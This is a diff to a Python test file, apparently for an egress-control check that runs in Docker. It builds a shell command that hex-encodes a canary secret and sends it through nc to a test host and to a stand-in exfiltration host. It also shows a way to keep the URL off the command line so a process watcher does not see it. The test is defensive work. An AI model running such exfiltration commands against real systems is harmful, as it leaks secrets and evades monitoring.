@@ -30,11 +30,22 @@ from tests.test_egress import serve
 
 pytestmark = [pytest.mark.docker, pytest.mark.slow]
 
+
 # In hex (one of the value's registered forms), so that the URLs are valid and reach the proxy.
+# Sent to the proxy by the shell's own printf, never on a command line: the watcher reads
+# every process's, and a step's own wget there would be the step's doing, not runner's.
+# The pause keeps the request's side open until the proxy has answered. (Braces doubled:
+# the text is formatted with the test server's port.)
+def _send(url: str) -> str:
+    request = "printf 'GET %s HTTP/1.0\\r\\n\\r\\n' \"" + url + '"; sleep 1;'
+    return "{{ " + request + " }} | nc -w 5 ${{p%:*}} ${{p##*:}} >/dev/null 2>&1; "
+
+
 EXFILTRATE = (
-    "h=$(printf '%s' \"$CANARY\" | od -An -tx1 -v | tr -d ' \\n'); "
-    'wget -q -O- "http://testhost:{port}/up?t=$h" >/dev/null 2>&1; '
-    'wget -q -O- "http://exfil.example/$h" >/dev/null 2>&1; echo tried'
+    "h=$(printf '%s' \"$CANARY\" | od -An -tx1 -v | tr -d ' \\n'); p=${{HTTP_PROXY#http://}}; "
+    + _send("http://testhost:{port}/up?t=$h")
+    + _send("http://exfil.example/$h")
+    + "echo tried"
 )
 
 
